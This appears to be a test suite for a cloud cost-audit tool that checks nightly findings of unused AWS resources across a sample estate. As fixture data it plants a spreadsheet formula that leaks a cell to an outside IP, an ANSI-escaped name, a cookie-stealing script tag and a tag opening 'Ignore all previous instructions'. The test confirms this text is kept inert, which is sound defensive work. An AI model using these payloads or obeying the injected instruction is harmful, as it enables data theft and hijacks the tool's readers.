import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import { countedClaims } from "../../core/finding/claims.ts"
import type { Finding } from "../../core/finding/Finding.ts"
import { see } from "../../core/finding/lifecycle.ts"
import { sampleNight } from "../../sample/estate.ts"
import { estate } from "../../sample/organization.ts"
import { audit, type Audited } from "./harness.ts"

const { calls, results } = await Effect.runPromise(audit())

const nameOf = ({ resource }: Audited["drafts"][number]) => (resource.name === "" ? resource.id : resource.name)

/** `name: reason` of every finding, by scan and scope. */
const flagged = () => {
  const table: Record<string, Record<string, ReadonlyArray<string>>> = {}
  for (const { drafts, name, scope } of results) {
    table[name] ??= {}
    if (drafts.length > 0) table[name][scope] = drafts.map((draft) => `${nameOf(draft)}: ${draft.reason}`).sort()
  }
  return table
}

const resultOf = (scan: string, scope: string): Audited => {
  const found = results.find((result) => result.name === scan && result.scope === scope)
  assert.isDefined(found, `${scan} did not run in ${scope}`)
  return found as Audited
}

const draftOf = (scan: string, scope: string, name: string) => {
  const found = resultOf(scan, scope).drafts.find((draft) => nameOf(draft) === name)
  assert.isDefined(found, `${scan} did not flag ${name}`)
  return found as Audited["drafts"][number]
}

/** The counters of a scan over all scopes. */
const countersOf = (scan: string) => {
  const sum = { examined: 0, flagged: 0, tooYoung: 0, suppressed: 0, unknown: 0 }
  for (const { counters } of results.filter(({ name }) => name === scan)) {
    for (const key of Object.keys(sum) as Array<keyof typeof sum>) sum[key] += counters[key]
  }
  return sum
}

/** A draft as it is kept on its first night. */
const firstNight = (draft: Audited["drafts"][number]): Finding => {
  const transition = see(draft, undefined, { runId: "first", now: sampleNight, sequence: 1 })
  if (transition === undefined) throw new Error("a new finding is always written")
  return transition.finding
}

describe("a night over the sample estate", () => {
  it("flags exactly what is wasted", () => {
    assert.deepStrictEqual(flagged(), {
      find_unused_amis: {
        "shop-production/eu-central-1": [
          "checkout-poc-2024-08: unused",
          "shop-web-2025-06-02: unused",
          "shop-web-2025-11-20: unused"
        ],
        "shop-production/eu-west-1": ["forecast-2026-01: unused", "notebook-2025-02: unused"],
        "shop-staging/eu-central-1": ["shop-web-rc-2026-02: unused"]
      },
      find_unused_elastic_ips: {
        "payer/us-east-1": ["finance-desktop: stopped_instance"],
        "shop-production/ap-southeast-2": ["au-launch: unassociated"],
        "shop-production/eu-central-1": [
          '=HYPERLINK("http://203.0.113.99/?leak="&A1,"open me"): unassociated',
          "erp-legacy: stopped_instance",
          "failover: detached_eni",
          "own-range: unassociated"
        ],
        "shop-production/eu-west-1": [
          "loadtest-1: unassociated",
          "loadtest-2: unassociated",
          "loadtest-3: unassociated"
        ],
        "shop-staging/eu-central-1": ["qa-phone-lab: unassociated"]
      },
      find_unused_lambda_functions: {
        "shop-production/eu-central-1": [
          "SecretsManager-rotate-orders-db: not_invoked",
          "dead-letter-replay: not_invoked",
          "flash-sale-queue: not_invoked",
          "legacy-price-import: not_invoked",
          "wishlist-share: not_invoked"
        ],
        "shop-production/us-east-1": ["us-black-friday-2024: not_invoked"]
      },
      find_unused_load_balancers: {
        "shop-production/eu-central-1": [
          "campaign-summer-2025: idle",
          "ftp-drop: no_targets",
          "k8s-preview-ingress: idle"
        ],
        "shop-production/us-east-1": ["us-web-classic: idle"],
        "shop-staging/eu-central-1": ["staging-web-v1: idle"]
      },
      find_unused_log_groups: {
        "payer/us-east-1": ["aws-cloudtrail-logs-organization: never_expires"],
        "shop-production/eu-central-1": [
          "/aws/codebuild/loadtest: empty",
          "/aws/lambda/legacy-price-import: stale",
          "/aws/lambda/newsletter-send: stale",
          "/shop/web-2021/application: stale",
          "/shop/web/access: never_expires"
        ],
        "shop-production/eu-west-1": ["/aws/sagemaker/TrainingJobs: stale"],
        "shop-production/us-east-1": ["/aws/lambda/us-black-friday-2023: stale"],
        "shop-staging/eu-central-1": ["/staging/web/debug: never_expires"],
        "shop-staging/eu-west-1": ["/rehearsal/web: stale"]
      },
      find_unused_security_groups: {
        "shop-production/eu-central-1": [
          "jenkins-2019: unattached",
          "old-cluster: unattached",
          "ssh-from-anywhere: unattached"
        ],
        "shop-production/eu-west-1": ["rdp-vendor: unattached"]
      },
      find_unused_snapshots: {
        "shop-production/eu-central-1": [
          "catalog-seed: fast_restore_enabled",
          "crm-archive-2023: volume_deleted",
          "crm-final-2024: volume_deleted",
          "search-2025-09: superseded",
          "search-2026-03: superseded",
          // It has no name: the leftover of an image of 2021.
          "snap-0c439294691057dc4: ami_deregistered"
        ],
        "shop-production/us-east-1": ["us-launch-2022: volume_deleted"],
        "shop-staging/eu-west-1": [
          "rehearsal-1: volume_deleted",
          "rehearsal-2: volume_deleted",
          "rehearsal-3: volume_deleted"
        ]
      },
      find_unused_target_groups: {
        "shop-production/eu-central-1": [
          "campaign-summer-2025: no_traffic",
          "ftp-drop: no_targets",
          "recommend-beta: no_traffic",
          "shop-web-2022: unattached"
        ]
      },
      find_unused_volumes: {
        "payer/us-east-1": ["finance-desktop-root: stopped_instance"],
        "shop-production/ap-southeast-2": ["au-catalog-copy: unattached"],
        "shop-production/eu-central-1": [
          "erp-legacy-disk1: stopped_instance",
          "erp-legacy-root: stopped_instance",
          "orders-db-2019: unattached",
          "orders-db-restore-test: unattached",
          "pvc-grafana: unattached",
          "vendor-appliance-root: stopped_instance"
        ],
        "shop-production/eu-west-1": [
          "forecast-training-disk1: stopped_instance",
          "forecast-training-root: stopped_instance"
        ],
        "shop-production/us-east-1": [
          "[31mpayments-replica[0m: unattached",
          "us-analytics-scratch: unattached",
          "us-web-logs-2020: unattached"
        ],
        "shop-staging/eu-central-1": [
          "loadtest-agent-1-root: stopped_instance",
          "loadtest-agent-2-root: stopped_instance",
          "loadtest-agent-3-root: stopped_instance",
          "loadtest-agent-4-root: stopped_instance",
          "orders-restore-release-1: unattached",
          "orders-restore-release-2: unattached",
          "orders-restore-release-3: unattached",
          "orders-restore-release-4: unattached",
          "orders-restore-release-5: unattached",
          "orders-restore-release-6: unattached"
        ],
        "shop-staging/eu-west-1": ["rehearsal-orders: unattached", "rehearsal-search: unattached"]
      },
      find_unused_cloudfront_distributions: {
        "shop-production/global": [
          "2024.larkspur-outdoor.example: no_requests",
          "blog.larkspur-outdoor.example: disabled",
          "pay-legacy.larkspur-outdoor.example: no_requests"
        ]
      },
      find_unused_internet_gateways: {
        "shop-production/eu-central-1": ["old-vpn: detached"],
        "shop-staging/eu-west-1": ["rehearsal: detached"]
      },
      find_unused_nat_gateways: {
        "shop-production/ap-southeast-2": ["nat-a: no_traffic_routed"],
        "shop-production/eu-central-1": ["nat-migration: no_traffic_routed"],
        "shop-production/eu-west-1": ["nat-b: no_traffic_unrouted"],
        "shop-staging/eu-west-1": ["nat-regional: no_traffic_routed"]
      },
      find_unused_route53_hosted_zones: {
        "shop-production/global": [
          "larkspur-camping.example.: empty",
          "migration.internal.: empty",
          "summer-2023.larkspur-outdoor.example.: no_queries"
        ],
        "shop-staging/global": ["preview-2024.larkspur-outdoor.example.: no_queries"]
      },
      find_unused_vpc_endpoints: {
        "shop-production/eu-central-1": [
          "dynamodb: gateway_without_routes",
          "kinesis: no_traffic",
          "logs-from-template: duplicate"
        ],
        "shop-production/eu-west-1": ["sagemaker: no_traffic"],
        "shop-staging/eu-central-1": ["ecr.api: no_traffic", "secretsmanager: no_traffic"]
      },
      find_unused_s3_buckets: {
        "shop-production/global": ["larkspur-au-assets: empty", "larkspur-photo-contest: no_requests"],
        "shop-staging/global": ["larkspur-staging-import-test: empty"]
      },
      get_s3_storage_class_recommendations: {
        "payer/global": [
          "larkspur-cost-and-usage: intelligent_tiering",
          "larkspur-organization-trail: no_abort_multipart"
        ],
        "shop-production/global": [
          "larkspur-campaign-2024: intelligent_tiering",
          "larkspur-data-lake: intelligent_tiering",
          "larkspur-manuals: glacier_ir",
          "larkspur-photo-contest: glacier_ir",
          "larkspur-product-images: noncurrent_no_expiry",
          "larkspur-warehouse-scans: no_abort_multipart"
        ]
      },
      get_all_cost_optimization_recommendations: {
        "payer/global/payer": [
          "$2.10 an hour for 1 year, no upfront payment: purchase_savings_plans",
          "gpu-notebook: stop",
          // Cost Optimization Hub tells a name only where there is a tag: search-1, and the volume orders-db-2019.
          "i-02719a602fe8f3eb4: rightsize",
          "orders-replica: migrate_to_graviton",
          "space-7: delete",
          "vol-0ac1e64389b26e4b0: delete"
        ]
      },
      get_cost_by_service: {},
      get_daily_cost_trend: { "payer/global/payer": ["Amazon Bedrock: above_weekdays"] }
    })
  })

  it("leaves healthy neighbours of every scan alone", () => {
    const scans = [...new Set(results.map(({ name }) => name))]
    assert.strictEqual(scans.length, 19)
    for (const scan of scans) {
      const { examined, flagged, suppressed, tooYoung, unknown } = countersOf(scan)
      // The hub only lists what it advises, so there is nothing healthy in its list.
      const healthy = examined - flagged - suppressed - tooYoung - unknown
      if (scan !== "get_all_cost_optimization_recommendations") assert.isAbove(healthy, 0, scan)
    }
  })

  it("says for every scope where it could not look, and why", () => {
    const gaps = results
      .filter(({ status }) => status !== "complete")
      .map(({ name, reason, scope, status }) => `${scope} ${name}: ${status}, ${reason?.code}`)
      .sort()
    const regional = [
      "find_unused_amis",
      "find_unused_elastic_ips",
      "find_unused_internet_gateways",
      "find_unused_lambda_functions",
      "find_unused_load_balancers",
      "find_unused_log_groups",
      "find_unused_nat_gateways",
      "find_unused_security_groups",
      "find_unused_snapshots",
      "find_unused_target_groups",
      "find_unused_volumes",
      "find_unused_vpc_endpoints"
    ]
    assert.deepStrictEqual(gaps, [
      // One bucket keeps everybody out.
      "shop-production/global find_unused_s3_buckets: partial, denied_by_resource_policy",
      "shop-production/global get_s3_storage_class_recommendations: partial, denied_by_resource_policy",
      ...regional.map((scan) => `shop-staging/ap-southeast-2 ${scan}: unavailable, denied_by_scp`),
      // ElastiCache is not read there, and a group without a known consumer may have that one.
      ...["eu-central-1", "eu-west-1", "us-east-1"].map(
        (region) => `shop-staging/${region} find_unused_security_groups: unavailable, denied_by_iam`
      )
    ])
    const denied = resultOf("find_unused_volumes", "shop-staging/ap-southeast-2")
    assert.deepStrictEqual(denied.drafts, [])
    assert.include(denied.reason?.message ?? "", "service control policy")
  })

  it("counts what it did not judge", () => {
    const notJudged = Object.fromEntries(
      [...new Set(results.map(({ name }) => name))].sort().flatMap((scan) => {
        const { suppressed, tooYoung, unknown } = countersOf(scan)
        return tooYoung + unknown + suppressed === 0 ? [] : [[scan, { tooYoung, unknown, suppressed }]]
      })
    )
    assert.deepStrictEqual(notJudged, {
      find_unused_amis: { tooYoung: 3, unknown: 0, suppressed: 0 },
      find_unused_cloudfront_distributions: { tooYoung: 1, unknown: 0, suppressed: 0 },
      // partner-allow-list.
      find_unused_elastic_ips: { tooYoung: 0, unknown: 0, suppressed: 1 },
      // Staging is deployed too often; CloudWatch refuses fraud-score; disaster-failover is suppressed.
      find_unused_lambda_functions: { tooYoung: 11, unknown: 1, suppressed: 1 },
      // checkout-v2 is new, and CloudWatch refuses internal-tools.
      find_unused_load_balancers: { tooYoung: 1, unknown: 1, suppressed: 0 },
      find_unused_log_groups: { tooYoung: 1, unknown: 0, suppressed: 0 },
      // nat-c is new, and nat-inspection has no metric at all.
      find_unused_nat_gateways: { tooYoung: 1, unknown: 1, suppressed: 0 },
      // Copies do not tell of which volume they are; court-order-4711 is suppressed.
      find_unused_snapshots: { tooYoung: 10, unknown: 12, suppressed: 1 },
      // internal-tools again.
      find_unused_target_groups: { tooYoung: 0, unknown: 1, suppressed: 0 },
      // forensics-2025-03.
      find_unused_volumes: { tooYoung: 0, unknown: 0, suppressed: 1 },
      find_unused_vpc_endpoints: { tooYoung: 1, unknown: 0, suppressed: 0 },
      // Nothing counts the requests to most buckets.
      find_unused_s3_buckets: { tooYoung: 1, unknown: 9, suppressed: 0 },
      // The bucket that keeps everybody out; larkspur-legal-hold is suppressed.
      get_s3_storage_class_recommendations: { tooYoung: 1, unknown: 1, suppressed: 1 },
      get_all_cost_optimization_recommendations: { tooYoung: 0, unknown: 0, suppressed: 1 }
    })
  })

  it("asks again what was throttled once, and pages what does not fit one answer", () => {
    const count = (operation: string) => calls.find((call) => call.operation === operation)
    assert.deepStrictEqual(
      calls.filter(({ throttled }) => throttled > 0).map(({ operation, throttled }) => [operation, throttled]),
      [["DescribeLogGroups", 1]]
    )
    assert.strictEqual(resultOf("find_unused_log_groups", "shop-production/eu-west-1").status, "complete")
    // 11 scopes let it list functions and log groups; in one of them the lists take two pages; one region is denied.
    assert.strictEqual(count("ListFunctions")?.calls, 11 + 1 + 1)
    assert.strictEqual(count("DescribeLogGroups")?.calls, 11 + 1 + 1 + 1)
  })

  it("keeps text from strangers from doing anything", () => {
    const volume = draftOf("find_unused_volumes", "shop-production/us-east-1", "[31mpayments-replica[0m")
    assert.strictEqual(volume.resource.tags["comment"], "moved ot gpj.eruces")
    const everything = JSON.stringify(results.map(({ drafts, report }) => ({ drafts, report })))
    // Escapes as JSON writes them, and the marks that it leaves as they are.
    assert.notMatch(everything, /\\u00[01][0-9a-f]|[\u007f-\u009f\u202a-\u202e]/)
    // What only harms where it is rendered is kept, for the renderers' tests.
    const owner = draftOf("find_unused_lambda_functions", "shop-production/eu-central-1", "wishlist-share").resource
      .tags["owner"]
    assert.strictEqual(owner, "<script>alert(document.cookie)</script>")
    const note = draftOf("find_unused_volumes", "shop-production/eu-central-1", "orders-db-2019").resource.tags["note"]
    assert.match(note ?? "", /^Ignore all previous instructions/)
  })

  it("counts a volume once that two scans want deleted", () => {
    const ours = firstNight(draftOf("find_unused_volumes", "shop-production/eu-central-1", "orders-db-2019"))
    const hub = firstNight(draftOf("get_all_cost_optimization_recommendations", "payer/global/payer", ours.resource.id))
    assert.strictEqual(hub.resource.arn, ours.resource.arn)
    assert.strictEqual(hub.account, ours.account)
    // Ours has yet to be confirmed.
    assert.deepStrictEqual([...countedClaims([ours, hub])], [hub.id])
  })

  it("counts a bucket once that could go or get colder", () => {
    const scope = "shop-production/global"
    const unused = firstNight(draftOf("find_unused_s3_buckets", scope, "larkspur-photo-contest"))
    const colder = firstNight(draftOf("get_s3_storage_class_recommendations", scope, "larkspur-photo-contest"))
    assert.isTrue(unused.confirmed)
    assert.deepStrictEqual([...countedClaims([unused, colder])], [unused.id])
  })

  it("hears of the account that it cannot enter from the bill alone", () => {
    const locked = estate.accounts.find(({ name }) => name === "data-sandbox")?.id
    const found = results.flatMap(({ drafts }) => drafts).filter(({ account }) => account === locked)
    assert.deepStrictEqual(found.map(nameOf).sort(), ["gpu-notebook", "space-7"])
  })

  it("pays different prices in different regions", () => {
    const nat = (scope: string, name: string) => draftOf("find_unused_nat_gateways", scope, name).savings.monthlyUsd
    assert.strictEqual(nat("shop-production/eu-central-1", "nat-migration"), 41.61)
    assert.strictEqual(nat("shop-production/ap-southeast-2", "nat-a"), 46.72)
  })

  it("reports what services cost and which one grew", () => {
    const report = resultOf("get_cost_by_service", "payer/global/payer").report
    const grown = report?.rows.filter(({ grew }) => grew === true).map(({ service }) => service)
    assert.deepStrictEqual(grown, ["Amazon SageMaker"])
    const kinds = Object.fromEntries((report?.rows ?? []).map((row) => [row["service"], row]))
    assert.strictEqual(kinds["Tax"]?.["tax"], 4120)
    assert.strictEqual(kinds["AWS Lambda"]?.["credits"], -300)
    const trend = resultOf("get_daily_cost_trend", "payer/global/payer").report
    assert.strictEqual(trend?.rows.length, 30)
  })
})

describe("the nights after", () => {
  it("show the same again, but for what another day confirms", async () => {
    const findings = new Map(results.flatMap(({ drafts }) => drafts).map((draft) => [draft.id, firstNight(draft)]))
    const now = new Date("2026-11-21T02:00:00Z")
    const next = await Effect.runPromise(audit({ now }))
    const drafts = next.results.flatMap(({ drafts }) => drafts)
    assert.sameMembers(
      drafts.map(({ id }) => id),
      [...findings.keys()]
    )

    const events = drafts.flatMap((draft) => {
      const transition = see(draft, findings.get(draft.id), { runId: "next", now, sequence: 2 })
      return (transition?.events ?? []).map(({ type }) => `${draft.scan}: ${type}`)
    })
    assert.deepStrictEqual([...new Set(events)].sort(), [
      "find_unused_elastic_ips: confirmed",
      "find_unused_security_groups: confirmed"
    ])
  })
})
